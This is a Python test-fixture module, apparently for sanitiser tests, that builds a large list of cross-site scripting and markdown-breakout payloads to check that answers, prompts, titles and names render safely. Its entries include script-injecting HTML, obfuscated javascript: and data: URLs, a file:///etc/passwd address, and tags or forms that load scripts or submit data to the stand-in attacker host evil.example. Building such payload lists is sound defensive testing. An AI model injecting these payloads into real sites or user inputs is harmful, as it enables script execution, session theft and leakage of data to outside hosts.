"""Texts that try to run a script or to reach another host, for everything that a page shows: answers, prompts, titles, names.

A script that runs calls `hit()`. All addresses of other hosts are below `evil.example`.
"""

HOST = "evil.example"
SCRIPT = "hit()"

ELEMENTS = f"""<script>{SCRIPT}</script>
<script src="//{HOST}/a.js"></script>
<script src=https://{HOST}/a.js type=module></script>
<SCRIPT/x>{SCRIPT}</SCRIPT>
<scr<script>ipt>{SCRIPT}</scr</script>ipt>
<script\x0c>{SCRIPT}</script>
<script>/*<b>*/{SCRIPT}//</script
<img src=x onerror={SCRIPT}>
<img src=x onerror="{SCRIPT}"//
<img/src=x/onerror={SCRIPT}>
<img src=https://{HOST}/a.png>
<img srcset="https://{HOST}/a.png 1x">
<image src=//{HOST}/a.png>
<picture><source srcset=//{HOST}/a.png><img></picture>
<svg onload={SCRIPT}>
<svg><script>{SCRIPT}</script></svg>
<svg><script href="data:,{SCRIPT}"/></svg>
<svg><a xlink:href="javascript:{SCRIPT}"><text y=20>a</text></a></svg>
<svg><image href="https://{HOST}/a.svg"/></svg>
<svg><use href="https://{HOST}/a.svg#a"/></svg>
<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:{SCRIPT}>
<svg><foreignObject><iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror={SCRIPT}></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}></style></table></mtext></math>
<math href="javascript:{SCRIPT}">a</math>
<template><script>{SCRIPT}</script></template>
<template shadowrootmode=open><img src=x onerror={SCRIPT}></template>
<noscript><p title="</noscript><img src=x onerror={SCRIPT}>">
<style><!--</style><img src=x onerror={SCRIPT}>--></style>
<style>@import "https://{HOST}/a.css";</style>
<style>body{{background:url(//{HOST}/a.png)}}</style>
<title><img src=x onerror={SCRIPT}></title>
<textarea><img src=x onerror={SCRIPT}></textarea><img src=x onerror={SCRIPT}>
<xmp><img src=x onerror={SCRIPT}></xmp><img src=x onerror={SCRIPT}>
<iframe src="javascript:parent.{SCRIPT}"></iframe>
<iframe srcdoc="<img src=x onerror=parent.{SCRIPT}>"></iframe>
<iframe src=https://{HOST}/></iframe>
<object data="javascript:{SCRIPT}"></object>
<object data=https://{HOST}/a.swf></object>
<embed src="https://{HOST}/a">
<applet code=https://{HOST}/a.class></applet>
<video src=https://{HOST}/a.mp4 onerror={SCRIPT}></video>
<video poster=https://{HOST}/a.png></video>
<video><source onerror={SCRIPT}></video>
<audio src=https://{HOST}/a.mp3 autoplay></audio>
<track src=https://{HOST}/a.vtt>
<input autofocus onfocus={SCRIPT}>
<input type=image src=https://{HOST}/a.png>
<select autofocus onfocus={SCRIPT}></select>
<details open ontoggle={SCRIPT}><summary>a</summary></details>
<body onload={SCRIPT}>
<body background=https://{HOST}/a.png>
<table background=https://{HOST}/a.png><td>
<marquee onstart={SCRIPT}>a</marquee>
<div style="background:url(https://{HOST}/a.png)">a</div>
<div style="animation-name:x" onanimationstart={SCRIPT}>a</div>
<b onmouseover={SCRIPT}>a</b>
<a href="javascript:{SCRIPT}" id=x autofocus onfocus={SCRIPT}>a</a>
<a ping=https://{HOST}/ href=#>a</a>
<form action=https://{HOST}/><input name=a><button>a</button></form>
<form id=x></form><button form=x formaction=javascript:{SCRIPT}>a</button>
<isindex action=javascript:{SCRIPT} type=image>
<link rel=stylesheet href=https://{HOST}/a.css>
<link rel=preload as=image href=https://{HOST}/a.png>
<link rel=prefetch href=https://{HOST}/>
<link rel=dns-prefetch href=//{HOST}>
<meta http-equiv=refresh content="0;url=https://{HOST}/">
<meta http-equiv=refresh content="0;url=javascript:{SCRIPT}">
<base href=https://{HOST}/>
<custom-element onpointerenter={SCRIPT}>a</custom-element>
<?xml-stylesheet href="https://{HOST}/a.xsl"?>
<!--><img src=x onerror={SCRIPT}>-->
<!--<img src="--><img src=x onerror={SCRIPT}>">
<![CDATA[><img src=x onerror={SCRIPT}>]]>
<!DOCTYPE html [<!ENTITY a SYSTEM "https://{HOST}/">]>
</p><script>{SCRIPT}</script><p>
</code></pre><script>{SCRIPT}</script>
</title></style></script><script>{SCRIPT}</script>
&lt;script&gt;{SCRIPT}&lt;/script&gt;
&#60;img src=x onerror={SCRIPT}&#62;
&#x3c;script&#x3e;{SCRIPT}&#x3c;/script&#x3e;
\\<script\\>{SCRIPT}\\</script\\>
\uff1cscript\uff1e{SCRIPT}\uff1c/script\uff1e
<\u200bscript>{SCRIPT}</script>
<\x00script>{SCRIPT}</script>
\x00<img src=x onerror={SCRIPT}>
\ufeff<script>{SCRIPT}</script>
\u202e<script>{SCRIPT}</script>
\u2028<img src=x onerror={SCRIPT}>\u2029
{{{{constructor.constructor('{SCRIPT}')()}}}}
${{{SCRIPT}}}
"-{SCRIPT}-"
'-{SCRIPT}-'
" autofocus onfocus={SCRIPT} x="
' onmouseover={SCRIPT} x='
`-{SCRIPT}-`
javascript:{SCRIPT}
\\u003cscript\\u003e{SCRIPT}\\u003c/script\\u003e
+ADw-script+AD4-{SCRIPT}+ADw-/script+AD4-
__proto__
constructor
[object Object]""".split("\n")

ADDRESSES = f"""javascript:{SCRIPT}
JaVaScRiPt:{SCRIPT}
javascript&colon;{SCRIPT}
javascript&#58;{SCRIPT}
javascript&#x3A;{SCRIPT}
&#106;avascript:{SCRIPT}
&#x6A&#x61;vascript:{SCRIPT}
java&Tab;script:{SCRIPT}
java&NewLine;script:{SCRIPT}
java&#9;script:{SCRIPT}
java&#10;script:{SCRIPT}
java&#13;script:{SCRIPT}
&#1;javascript:{SCRIPT}
&#32;javascript:{SCRIPT}
&nbsp;javascript:{SCRIPT}
\x01javascript:{SCRIPT}
\x1fjavascript:{SCRIPT}
java\x00script:{SCRIPT}
java\x08script:{SCRIPT}
\u00a0javascript:{SCRIPT}
\ufeffjavascript:{SCRIPT}
\u200bjavascript:{SCRIPT}
\u2028javascript:{SCRIPT}
javascript\\:{SCRIPT}
\\javascript:{SCRIPT}
javascript://{HOST}/%0a{SCRIPT}
javascript:%0a{SCRIPT}
javascript:\"'><img/src=x/onerror={SCRIPT}>
javascript://https://a.b/?%0d{SCRIPT}
\uff4aavascript:{SCRIPT}
jav\u0131script:{SCRIPT}
vbscript:{SCRIPT}
livescript:{SCRIPT}
data:text/html,<script>{SCRIPT}</script>
data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg/onload={SCRIPT}>
DATA:text/html,{SCRIPT}
blob:https://{HOST}/0
filesystem:https://{HOST}/temporary/a
file:///etc/passwd
view-source:https://{HOST}/
feed:javascript:{SCRIPT}
jar:https://{HOST}/a!/b
about:blank
ms-its:a
intent://{HOST}/#Intent;end
//{HOST}/a
/\\{HOST}/a
\\\\{HOST}\\a
https:\\\\{HOST}\\a
https:{HOST}
http:/{HOST}/a
https:///{HOST}/a
https://a.b@{HOST}/
https://{HOST}/?q=<script>{SCRIPT}</script>
https://{HOST}/"onmouseover="{SCRIPT}
https://{HOST}/'onmouseover='{SCRIPT}
https://{HOST}/`onmouseover=`{SCRIPT}
https://{HOST}/#"><img src=x onerror={SCRIPT}>
https://{HOST}/a\u202egnp.exe
https://\u0435vil.example/
https://{HOST}%00.a.b/
mailto:a@{HOST}?body="><script>{SCRIPT}</script>""".split("\n")

ADDRESS_PLACES = [
    "[a]({})", "![a]({})", "[a](<{}>)", "![a](<{}>)", "<{}>", "[a]({} \"t\")", "[![a]({})]({})", "[a]: {}\n\n[a]", "![a][b]\n\n[b]: {}", "{}",
]

# Line ends are written as \n.
BREAKOUTS = rf"""```"><script>{SCRIPT}</script>\na\n```
```html onload={SCRIPT}\n<script>{SCRIPT}</script>\n```
```js" autofocus onfocus={SCRIPT} x="\na\n```
~~~ </code></pre><img src=x onerror={SCRIPT}>\na\n~~~
`</code><img src=x onerror={SCRIPT}>`
    </code></pre><script>{SCRIPT}</script>
# </h1><script>{SCRIPT}</script>
</h1><img src=x onerror={SCRIPT}>\n===
> </blockquote><script>{SCRIPT}</script>
- </li></ul><script>{SCRIPT}</script>
1. <img src=x onerror={SCRIPT}>
- [ ] <input autofocus onfocus={SCRIPT}>
- [x"onclick="{SCRIPT}] a
| <img src=x onerror={SCRIPT}> | b |\n| --- | --- |\n| </td></table><script>{SCRIPT}</script> | d |
| a |\n| :-"onload={SCRIPT} |\n| b |
| a |\n| --- |\n| ![a](https://{HOST}/a.png) |
| a |\n| --- |\n| [a](javascript:{SCRIPT}) |
[a](https://a.b "\" onmouseover=\"{SCRIPT}")
[a](https://a.b '" autofocus onfocus="{SCRIPT}')
[a](https://a.b (t" onfocus="{SCRIPT}))
[<img src=x onerror={SCRIPT}>](https://a.b)
[a](https://a.b"onclick="{SCRIPT})
![<img src=x onerror={SCRIPT}>](https://{HOST}/a.png)
![" onerror="{SCRIPT}](x)
![a](https://{HOST}/a.png" onerror="{SCRIPT})
![a](x "t\" onerror=\"{SCRIPT}")
[![a](https://{HOST}/a.png)](javascript:{SCRIPT})
![![a](javascript:{SCRIPT})](https://{HOST}/a.png)
[a](javascript:{SCRIPT}//"https://a.b")
[a]( javascript:{SCRIPT} )
[a](\njavascript:{SCRIPT}\n)
[a](<java\nscript:{SCRIPT}>)
**[a](javascript:{SCRIPT})**
~~<img src=x onerror={SCRIPT}>~~
*<img src="*" onerror={SCRIPT}>
www.{HOST}/"onmouseover="{SCRIPT}
http://{HOST}/<img/src=x/onerror={SCRIPT}>
https://{HOST}/?a=`"><script>{SCRIPT}</script>
<https://{HOST}/"><script>{SCRIPT}</script>>
<a@{HOST}"onclick={SCRIPT}>
<x@{HOST}?subject=<script>{SCRIPT}</script>>
<style onload={SCRIPT}>\n\n*a*\n\n</style>
<div>\n\n<script>\n{SCRIPT}\n</script>\n\n</div>
<script>\n\n# a\n\n{SCRIPT}\n</script>
<img src="\n\nx" onerror="{SCRIPT}">
<img title="`" src=x onerror={SCRIPT} alt="`">
$$\href{{javascript:{SCRIPT}}}{{a}}$$
\(\includegraphics{{https://{HOST}/a.png}}\)
:::{{onload={SCRIPT}}}\na\n:::
[a]{{onclick={SCRIPT}}}(https://a.b)
# a {{onclick={SCRIPT}}}
[^1]: <img src=x onerror={SCRIPT}>
<!-- markdown --> <img src=x onerror={SCRIPT}> <!-- -->
---\ntitle: <script>{SCRIPT}</script>\n---
![a]( https://{HOST}/a.png =100x100)
![[https://{HOST}/a.png]]
@import "https://{HOST}/a.css";
url(https://{HOST}/a.png)""".split("\n")


def hostile_texts():
    """All of them, each once."""
    texts = list(ELEMENTS)
    texts += [place.replace("{}", address) for address in ADDRESSES for place in ADDRESS_PLACES]
    texts += [text.replace(r"\n", "\n") for text in BREAKOUTS]
    return list(dict.fromkeys(texts))
